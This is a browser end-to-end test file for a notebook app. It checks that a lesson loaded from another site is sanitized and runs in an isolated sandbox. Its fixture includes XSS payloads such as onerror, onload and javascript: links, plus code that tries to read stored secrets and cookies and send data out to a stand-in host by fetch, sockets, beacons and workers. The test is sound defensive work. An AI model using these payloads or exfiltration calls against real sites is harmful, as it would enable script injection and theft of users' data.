/**
 * @file Lessons from elsewhere: nothing is asked or run before a press, and what runs reaches neither storage, cookies,
 * the page nor the network. In both browsers.
 */
import fs from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import type { Browser, Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { accessibilityFindings } from './support/axe.js';
import { browserNames, launch, openPage, until } from './support/browsers.js';
import { choose, outputText, pressRun, textOf, untilState, writeCode } from './support/lesson-driver.js';
import { untilReady } from './support/lesson-fixture.js';
import { serveSite, type Site } from './support/site.js';

/** What people have tried in other notebooks. */
const attacks = [
  '<img src=x onerror=window.__pwned=1>',
  '</script><script>window.__pwned=1</script>',
  '<svg/onload=window.__pwned=1>',
  '"><b>x</b>',
  '&lt;i&gt;',
  'javascript:window.__pwned=1',
];

/**
 * Each way out, with what it would reach. The names of the host are taken from the global object, as an attacker would.
 */
const reaches: Record<string, string> = {
  localStorage: 'globalThis.localStorage.secret',
  indexedDB:
    'new Promise((done, fail) => { const r = globalThis.indexedDB.open("normlab"); r.onsuccess = () => done(r.result.name); r.onerror = () => fail(r.error); })',
  caches: 'globalThis.caches.keys()',
  cookie: 'globalThis.document.cookie',
  cookieStore: 'globalThis.cookieStore.get("secret")',
  parent: 'globalThis.parent.document.title',
  page: 'globalThis.top.location.href',
  fetch: 'globalThis.fetch(there + "fetch")',
  site: 'globalThis.fetch(here + "digits.html").then((r) => r.text())',
  xhr: 'new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open("GET", there + "xhr"); x.onload = done; x.onerror = () => fail(new Error("no")); x.send(); })',
  scripts: 'globalThis.importScripts(there + "script.js")',
  import: 'globalThis.eval("there => import(there + `module.js`)")(there)',
  socket:
    'new Promise((done, fail) => { const s = new WebSocket(there.replace("http", "ws")); s.onopen = done; s.onerror = () => fail(new Error("no")); })',
  events:
    'new Promise((done, fail) => { const e = new EventSource(there + "events"); e.onopen = done; e.onerror = () => fail(new Error("no")); })',
  beacon: 'globalThis.navigator.sendBeacon(there + "beacon", "x") || Promise.reject(new Error("no"))',
  worker:
    'new Promise((done, fail) => { const w = new Worker(there + "worker.js"); w.onmessage = done; w.onerror = () => fail(new Error("no")); })',
  nested:
    'new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob([`fetch("${there}nested").then(() => postMessage("reached"), () => postMessage("no"))`]))); w.onmessage = ({ data }) => data === "reached" ? done() : fail(new Error("no")); w.onerror = () => fail(new Error("no")); })',
};

function evilLesson(there: string, here: string): string {
  const cell = [
    `const there = ${JSON.stringify(there)}, here = ${JSON.stringify(here)};`,
    'const patience = () => new Promise((_, fail) => setTimeout(() => fail(new Error("waits")), 1500));',
    ...Object.entries(reaches).map(
      ([name, code]) =>
        `await Promise.race([(async () => ${code})(), patience()]).then((got) => console.log("${name}", got === undefined ? "nothing" : "REACHED " + got), () => console.log("${name}", "refused"));`,
    ),
    'console.log("origin", globalThis.origin, "and the engine works:", randn([3]).shape[0], (await data.loadDigits()).data.shape[0]);',
  ].join('\n');
  const text = attacks.map(
    (attack, i) =>
      `${i + 1}. ${attack}\n   ## ${attack}\n\n   [link ${i}](${attack}) ![picture](${there}picture-${i}.png) \`${attack}\``,
  );
  return [
    `---\ntitle: '${attacks[0]}'\ndescription: '${attacks[2]}'\n---\n`,
    ...text,
    `[a link](javascript:window.__pwned=1) and [another](data:text/html,x) $\\href{javascript:window.__pwned=1}{x}$\n`,
    `[relative](next.md)\n`,
    '```js\n' + cell + '\n```\n',
    `\`\`\`output\n${attacks[0]}\n\`\`\`\n`,
    '```js maybe\nbad\n```\n',
    `\`\`\`exercise\nid: a\nkind: choice\nquestion: '${attacks[0]}'\noptions:\n  - text: '${attacks[2]}'\n  - text: B\n    right: true\n    says: '${attacks[0]}'\nhints: ['${attacks[0]}']\n\`\`\`\n`,
    '```js\nconst bad = ' +
      JSON.stringify(attacks[0]) +
      ';\nlineChart({ title: bad, x: bad, y: bad }).push(bad, 1, 2); table([bad], [[bad]]); progress(bad, 1).update(1, bad);\nthrow new Error(bad)\n```\n',
  ].join('\n');
}

describe.each(browserNames)('a lesson from elsewhere in %s', (name) => {
  let site: Site;
  let browser: Browser;
  let elsewhere: http.Server;
  let there: string;
  let asked: string[];
  let page: Page;

  beforeAll(async () => {
    site = await serveSite();
    browser = await launch(name);
    elsewhere = http.createServer((request, response) => {
      asked.push(request.url!);
      response.writeHead(200, { 'Content-Type': 'text/markdown', 'Access-Control-Allow-Origin': '*' });
      response.end(evilLesson(there, site.url));
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    there = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`;
  });
  afterAll(async () => {
    await browser?.close();
    await site?.close();
    elsewhere?.close();
    elsewhere?.closeAllConnections();
  });

  test('is asked for and run only at a press, sanitized, and runs without storage, cookies, page and network', async () => {
    asked = [];
    ({ page } = await openPage(browser, `${site.url}open.html?src=${encodeURIComponent(`${there}lesson.md`)}`));
    await page.evaluate(() => {
      localStorage.setItem('secret', 'of the reader');
      document.cookie = 'secret=of the reader';
    });
    await until(page, 'the words', () => document.querySelector('.open-words')?.textContent?.includes('Press Open'));
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(asked).toEqual([]);
    expect(await accessibilityFindings(page)).toEqual([]);
    await page.click('.open-form button');
    await untilReady(page);
    expect(asked).toEqual(['/lesson.md']);

    const seen = await page.evaluate(() => {
      const main = document.querySelector('main')!;
      return {
        title: document.querySelector('h1')!.textContent,
        foreign: main.querySelectorAll('img, script, iframe, object, embed, style, link, base').length,
        handlers: [...main.querySelectorAll('*')].flatMap((e) =>
          e.getAttributeNames().filter((a) => a.startsWith('on')),
        ),
        links: [...main.querySelectorAll('a')].map((a) => a.getAttribute('href') ?? ''),
        text: main.textContent!,
        problems: main.querySelectorAll('.lesson-problem').length,
        formulas: main.querySelectorAll('.katex math').length,
      };
    });
    expect(seen.title).toBe(attacks[0]);
    expect(seen.foreign).toBe(0);
    expect(seen.handlers).toEqual([]);
    expect(seen.problems).toBe(1);
    for (const href of seen.links) expect(href).toMatch(/^(https?:|mailto:|#|$)/);
    expect(seen.links).toContain(`${there}next.md`);
    for (const attack of attacks.slice(0, 4)) expect(seen.text).toContain(attack);
    expect(await page.evaluate(() => document.querySelectorAll('iframe').length)).toBe(0);

    await pressRun(page, 0);
    await untilState(page, 0, 'done', 'error');
    const printed = await textOf(page, '[data-cell="0"] .cell-output');
    expect(printed).toContain('localStorage');
    for (const reach of Object.keys(reaches)) expect(printed).toMatch(new RegExp(`^${reach} (refused|nothing)$`, 'm'));
    expect(printed).toContain('origin null and the engine works: 3 1797');
    await pressRun(page, 1);
    await untilState(page, 1, 'error');
    expect(await textOf(page, '[data-cell="1"] .error-message')).toBe(attacks[0]);
    await page.click('[data-exercise="a"] label:last-child');
    await page.click('[data-exercise="a"] [type="submit"]');
    await page.click('[data-exercise="a"] .exercise-hint');
    expect(await textOf(page, '[data-exercise="a"] .exercise-verdict')).toBe(attacks[0]);

    // The frame is alone: no way up, and a page that runs in it has no origin.
    const frame = page.frames().find((one) => one.url().endsWith('sandbox.html'))!;
    expect(await frame.evaluate(() => self.origin)).toBe('null');
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(await page.evaluate(() => document.querySelectorAll('main img, main script').length)).toBe(0);
    expect(asked).toEqual(['/lesson.md']);
    await page.close();
  }, 200_000);

  test('may be a file; edits are kept for it, an endless loop is stopped, and what is no lesson is said in words', async () => {
    const folder = await fs.mkdtemp(path.join(os.tmpdir(), 'normlab-'));
    const file = path.join(folder, 'mine.md');
    await fs.writeFile(file, '# Mine\n\n```js\n1 + 1\n```\n');
    await fs.writeFile(path.join(folder, 'picture.md'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0xff, 0xfe]));
    ({ page } = await openPage(browser, `${site.url}open.html`));
    const choosing = async (name_: string): Promise<void> => {
      const input = await until(
        page,
        'the form',
        () => document.querySelector<HTMLInputElement>('#open-file')?.disabled === false,
      ).then(() => page.$('#open-file'));
      await (input as unknown as { uploadFile(path: string): Promise<void> }).uploadFile(path.join(folder, name_));
    };
    await choosing('picture.md');
    await until(page, 'the words', () =>
      document.querySelector('.open-words')?.textContent?.includes('expected a text file in UTF-8'),
    );
    await choosing('mine.md');
    await untilReady(page);
    expect(await textOf(page, 'h1')).toBe('Mine');
    await writeCode(page, 0, 'for (;;) {}');
    await pressRun(page, 0);
    await until(page, 'the run', () =>
      document.querySelector('[data-cell="0"] .cell-state')?.textContent?.includes('run 1, '),
    );
    await pressRun(page, 0);
    await untilState(page, 0, 'stopped');
    await writeCode(page, 0, '6 * 7');
    await pressRun(page, 0);
    await untilState(page, 0, 'done');
    expect(await outputText(page, 0)).toBe('42');
    await page.reload();
    await choosing('mine.md');
    await untilReady(page);
    await until(page, 'the edit', () => document.querySelector('[data-cell="0"] .cm-line')?.textContent === '6 * 7');
    await choose(page, 'resetAll');
    await page.close();
    await fs.rm(folder, { recursive: true });
  });

  test('may be dropped on the page', async () => {
    const opened = await openPage(browser, `${site.url}open.html`);
    ({ page } = opened);
    await until(page, 'the form', () => document.querySelector<HTMLInputElement>('#open-file')?.disabled === false);
    await page.evaluate(() => {
      const dataTransfer = new DataTransfer();
      dataTransfer.items.add(new File(['# Dropped\n\n```js\n1\n```\n'], 'dropped.md'));
      document.body.dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }));
    });
    await untilReady(page);
    expect(await textOf(page, 'h1')).toBe('Dropped');
    await page.close();
    expect(opened.faults).toEqual([]);
  });

  test('that cannot be fetched is said in words', async () => {
    ({ page } = await openPage(browser, `${site.url}open.html?src=nowhere.md`));
    await until(page, 'the form', () => document.querySelector<HTMLInputElement>('#open-address')?.disabled === false);
    await page.click('.open-form button');
    await until(page, 'the words', () => document.querySelector('.open-words')?.textContent?.includes('answered 404'));
    await page.close();
  });

  test('the sandbox’s page does nothing outside of the sandbox', async () => {
    ({ page } = await openPage(browser, `${site.url}sandbox.html`));
    const started = await page.evaluate(
      () =>
        new Promise<boolean>((resolve) => {
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = () => resolve(true);
          postMessage({ script: 'postMessage("runs")', wasm: new ArrayBuffer(0), digits: new ArrayBuffer(0) }, '*', [
            port2,
          ]);
          setTimeout(() => resolve(false), 1000);
        }),
    );
    expect(started).toBe(false);
    await page.close();
  });
});
